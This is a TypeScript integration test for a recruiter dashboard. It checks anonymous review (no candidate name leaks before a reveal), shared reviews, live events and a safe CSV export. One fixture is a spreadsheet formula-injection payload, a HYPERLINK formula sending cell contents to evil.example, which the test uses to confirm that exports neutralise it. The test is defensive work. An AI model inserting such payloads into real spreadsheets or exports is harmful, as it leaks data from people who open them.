/**
 * The recruiter's dashboard through a real server and real Docker: one row
 * per invite, a candidate who starts and submits, the staff review shared by
 * colleagues, the CSV export (neutralised, with a byte-order mark) and
 * anonymous review, which must leak no name or contact in ANY staff response
 * (every staff GET route of API_ROUTES, the CSV and the live socket event)
 * until a recruiter reveals the candidate.
 */
import { readFile } from 'node:fs/promises';
import type { Socket } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { API_ROUTES } from '../../server/src/http/routes/index.ts';
import { ApiClient, connected, emitWithAck, newId, PY_LOG_AGGREGATION, startTestServer, waitForResult, type TestServer } from '../support/server.ts';

const DAY_MS = 24 * 60 * 60 * 1000;
// Distinctive, so a substring check cannot miss them or hit something else.
const HIDDEN_NAME = 'Zainab Quarshie-Tesfay';
const HIDDEN_CONTACT = 'zq.tesfay.7781@example.org';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")';

let server: TestServer;
let admin: ApiClient;
let colleague: ApiClient;
let assessmentId: string;
let versionId: string;
let challengeId: string;
let hiddenInviteId: string;
let formulaInviteId: string;
let waitingInviteId: string;
let candidate: ApiClient;
let attemptId: string;

async function invite(name: string, contact?: string) {
  const created = await admin.post(`/api/assessments/${assessmentId}/invites`, { candidateName: name, ...(contact ? { contact } : {}) });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  return created.body as { token: string; invite: { id: string } };
}

/** The raw bytes of the CSV export (fetch's text() would drop the byte-order mark). */
async function csvBytes(client: ApiClient): Promise<{ status: number; type: string | null; disposition: string | null; bytes: Buffer }> {
  const cookie = [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
  const response = await fetch(`${server.url}/api/assessments/${assessmentId}/dashboard.csv`, { headers: { cookie } });
  return { status: response.status, type: response.headers.get('content-type'), disposition: response.headers.get('content-disposition'), bytes: Buffer.from(await response.arrayBuffer()) };
}

/** Every staff GET route with this assessment's ids (others get a random id: a 404 leaks nothing either). */
async function everyStaffRead(client: ApiClient): Promise<{ route: string; status: number; text: string }[]> {
  const ids: Record<string, string> = { assessmentId, inviteId: hiddenInviteId, attemptId, challengeVersionId: versionId, challengeId, name: 'x.png' };
  const out = [];
  for (const def of API_ROUTES.filter((d) => d.access === 'staff' && d.method === 'get')) {
    const url = def.path.replace(/:([A-Za-z]+)/g, (_all, name: string) => ids[name] ?? newId());
    const cookie = [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
    const response = await fetch(`${server.url}${url}`, { headers: { cookie } });
    out.push({ route: `GET ${def.path}`, status: response.status, text: Buffer.from(await response.arrayBuffer()).toString('utf8') });
  }
  return out;
}

function staffSocket(client: ApiClient): Socket {
  return client.socket();
}

beforeAll(async () => {
  server = await startTestServer();
  admin = new ApiClient(server.url);
  await admin.login();
  const demo = (await admin.get('/api/assessments')).body.assessments.find((a: { title: string }) => a.title === 'Demo assessment');
  versionId = demo.challenges[0].challengeVersionId;
  challengeId = demo.challenges[0].challengeId;
  const created = await admin.post('/api/assessments', {
    title: 'Anonymous round',
    timeLimitMinutes: 60,
    opensAt: new Date(Date.now() - DAY_MS).toISOString(),
    closesAt: new Date(Date.now() + DAY_MS).toISOString(),
    resultsVisibility: 'aggregate',
    challengeVersionIds: [versionId],
    anonymousReview: true,
  });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  expect(created.body.anonymousReview).toBe(true);
  assessmentId = created.body.id;

  const email = `colleague-${newId()}@kodbro.example`;
  expect((await admin.post('/api/staff', { email, displayName: 'Rita Recruiter', password: 'colleague-password-long', roles: { author: false, recruiter: true } })).status).toBe(201);
  colleague = new ApiClient(server.url);
  await colleague.login(email, 'colleague-password-long');

  const hidden = await invite(HIDDEN_NAME, HIDDEN_CONTACT);
  hiddenInviteId = hidden.invite.id;
  formulaInviteId = (await invite(FORMULA_NAME, '+46 70 123 45 67')).invite.id;
  waitingInviteId = (await invite('Wanjiru Waiting')).invite.id;

  candidate = new ApiClient(server.url);
  await candidate.openInvite({ token: hidden.token });
  expect((await candidate.post('/api/candidate/attempt/start')).status).toBe(200);
  attemptId = (await colleague.get(`/api/assessments/${assessmentId}/dashboard`)).body.rows[0].attemptId;
}, 120_000);
afterAll(async () => server?.stop());

describe('the dashboard', () => {
  it('has one row per invite, and shows a submission live: status, score of its maximum, time and language', async () => {
    const socket = staffSocket(colleague);
    await connected(socket);
    expect(await emitWithAck(socket, 'assessment:watch', { assessmentId })).toMatchObject({ ok: true });
    const events: unknown[] = [];
    socket.on('attempt:changed', (event: unknown) => events.push(event));

    const before = (await colleague.get(`/api/assessments/${assessmentId}/dashboard`)).body;
    expect(before.rows.map((r: { status: string }) => r.status)).toEqual(['started', 'invited', 'invited']);
    expect(before).toMatchObject({ anonymousReview: true, maxTotal: 100, challenges: [{ challengeVersionId: versionId, max: 100 }] });

    const id = newId();
    const source = await readFile(PY_LOG_AGGREGATION, 'utf8');
    expect((await candidate.post('/api/candidate/submissions', { id, challengeVersionId: versionId, kind: 'submit', language: 'python', source })).status).toBe(202);
    expect((await waitForResult(candidate, id)).result.score).toBe(100);
    expect((await candidate.post('/api/candidate/attempt/finish')).status).toBe(200);
    // Live: the scored and finished events reached the watching recruiter, without a name.
    await expect.poll(() => events.length, { timeout: 10_000 }).toBeGreaterThanOrEqual(2);
    const eventText = JSON.stringify(events);
    expect(eventText).not.toContain(HIDDEN_NAME);
    expect(eventText).toContain('Candidate 1');
    socket.close();

    const row = (await colleague.get(`/api/assessments/${assessmentId}/dashboard/rows/${hiddenInviteId}`)).body;
    expect(row).toMatchObject({
      inviteId: hiddenInviteId,
      attemptId,
      candidateNumber: 1,
      candidateName: 'Candidate 1',
      contact: null,
      hidden: true,
      status: 'finished',
      scores: [{ challengeVersionId: versionId, score: 100, max: 100 }],
      total: 100,
      maxTotal: 100,
      minutesAllowed: 60,
      languages: ['python'],
    });
    expect(row.secondsUsed).toBeGreaterThanOrEqual(0);
    const board = (await colleague.get(`/api/assessments/${assessmentId}/dashboard`)).body;
    expect(board.rows[0]).toEqual(row);
    expect(board.rows[2]).toMatchObject({ inviteId: waitingInviteId, status: 'invited', attemptId: null, total: 0, secondsUsed: null, candidateName: 'Candidate 3' });
  });

  it('saves a review that a colleague sees, with who saved it', async () => {
    const saved = await admin.put(`/api/invites/${hiddenInviteId}/review`, { note: 'Tidy solution; ask about complexity.', rating: 4, shortlisted: true });
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    const row = (await colleague.get(`/api/assessments/${assessmentId}/dashboard/rows/${hiddenInviteId}`)).body;
    expect(row.review).toMatchObject({ note: 'Tidy solution; ask about complexity.', rating: 4, shortlisted: true, updatedBy: expect.any(String) });
    const changed = await colleague.put(`/api/invites/${hiddenInviteId}/review`, { note: '', rating: null, shortlisted: true });
    expect(changed.body).toMatchObject({ note: '', rating: null, shortlisted: true, updatedBy: 'Rita Recruiter' });
  });

  it('anonymous review: no staff response names the candidate or their contact until revealed', async () => {
    const reads = await everyStaffRead(colleague);
    expect(reads.length).toBeGreaterThan(15);
    // The candidate-bearing reads really answered (so the check is not vacuous).
    for (const route of ['dashboard', 'invites', 'attempts', 'sheet']) {
      expect(reads.find((r) => r.route === `GET /api/assessments/:assessmentId/${route}`)?.status, route).toBe(200);
    }
    for (const read of [...reads, ...(await everyStaffRead(admin))]) {
      expect(read.text, read.route).not.toContain(HIDDEN_NAME);
      expect(read.text, read.route).not.toContain(HIDDEN_CONTACT);
      expect(read.text, read.route).not.toContain('HYPERLINK');
      expect(read.text, read.route).not.toContain('Wanjiru');
    }
    expect(reads.find((r) => r.route === 'GET /api/attempts/:attemptId')!.text).toContain('Candidate 1');
    expect((await csvBytes(colleague)).bytes.toString('utf8')).not.toContain(HIDDEN_NAME);
  });

  it('a reveal shows that one candidate, recorded with who and when, everywhere; the others stay hidden', async () => {
    const revealed = await colleague.post(`/api/invites/${hiddenInviteId}/reveal`);
    expect(revealed.status).toBe(200);
    expect(revealed.body).toMatchObject({ inviteId: hiddenInviteId, revealedBy: 'Rita Recruiter' });
    // A second reveal keeps the first record.
    expect((await admin.post(`/api/invites/${hiddenInviteId}/reveal`)).body).toEqual(revealed.body);
    const board = (await admin.get(`/api/assessments/${assessmentId}/dashboard`)).body;
    expect(board.rows[0]).toMatchObject({ candidateName: HIDDEN_NAME, contact: HIDDEN_CONTACT, hidden: false, revealedBy: 'Rita Recruiter', revealedAt: revealed.body.revealedAt });
    expect(board.rows[1]).toMatchObject({ candidateName: 'Candidate 2', contact: null, hidden: true });
    expect(JSON.stringify((await admin.get(`/api/attempts/${attemptId}`)).body)).toContain(HIDDEN_NAME);
    expect(JSON.stringify((await admin.get(`/api/assessments/${assessmentId}/invites`)).body)).toContain(HIDDEN_CONTACT);
    expect(JSON.stringify((await admin.get(`/api/assessments/${assessmentId}/invites`)).body)).not.toContain('Wanjiru');
  });

  it('exports CSV: UTF-8 with a byte-order mark, an attachment, the right rows, formulas neutralised', async () => {
    // Anonymous review off: every name is shown, the formula one included.
    expect((await admin.patch(`/api/assessments/${assessmentId}`, { anonymousReview: false })).status).toBe(200);
    const csv = await csvBytes(colleague);
    expect(csv.status).toBe(200);
    expect(csv.type).toBe('text/csv; charset=utf-8');
    expect(csv.disposition).toMatch(/^attachment; filename="kodbro-[0-9a-f-]+\.csv"$/);
    expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csv.bytes.toString('utf8').slice(1).split('\r\n');
    expect(lines).toHaveLength(5); // header, three rows, and the empty string after the last CRLF
    expect(lines[4]).toBe('');
    expect(lines[0]!.startsWith('Candidate number,Name,Contact,Status,')).toBe(true);
    expect(lines[1]).toMatch(new RegExp(`^1,${HIDDEN_NAME},${HIDDEN_CONTACT.replaceAll('.', '\\.')},finished,100,100,100,\\d+,60,0,python,`));
    expect(lines[1]).toContain(',,yes,,Rita Recruiter,');
    expect(lines[2]).toBe(`2,"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",'+46 70 123 45 67,invited,,0,100,,60,0,,,,,no,,,`);
    expect(lines[3]).toMatch(/^3,Wanjiru Waiting,,invited,/);
    void formulaInviteId;
  });

  it('another organisation’s staff, and a candidate, get nothing', async () => {
    expect((await candidate.get(`/api/assessments/${assessmentId}/dashboard`)).status).toBe(401);
    const store = server.server.store;
    const org = await store.createOrganisation({ name: 'Other Org', slug: `other-${newId().slice(0, 8)}` });
    if (!org.ok) throw new Error(org.reason);
    const { hashPassword } = await import('../../server/src/auth/index.ts');
    const user = await store.createStaffUser(org.value.id, { email: `o-${newId()}@other.example`, displayName: 'Other', passwordHash: await hashPassword('other-password-long'), roles: { author: true, recruiter: true, admin: true } });
    if (!user.ok) throw new Error(user.reason);
    const other = new ApiClient(server.url);
    await other.login(user.value.email, 'other-password-long');
    for (const url of [`/api/assessments/${assessmentId}/dashboard`, `/api/assessments/${assessmentId}/dashboard.csv`, `/api/assessments/${assessmentId}/dashboard/rows/${hiddenInviteId}`]) {
      const response = await other.get(url);
      expect(response.status, url).toBe(404);
      expect(JSON.stringify(response.body)).not.toContain(HIDDEN_NAME);
    }
    expect((await other.put(`/api/invites/${hiddenInviteId}/review`, { note: 'x', rating: 1, shortlisted: false })).status).toBe(404);
    expect((await other.post(`/api/invites/${hiddenInviteId}/reveal`)).status).toBe(404);
  });
});
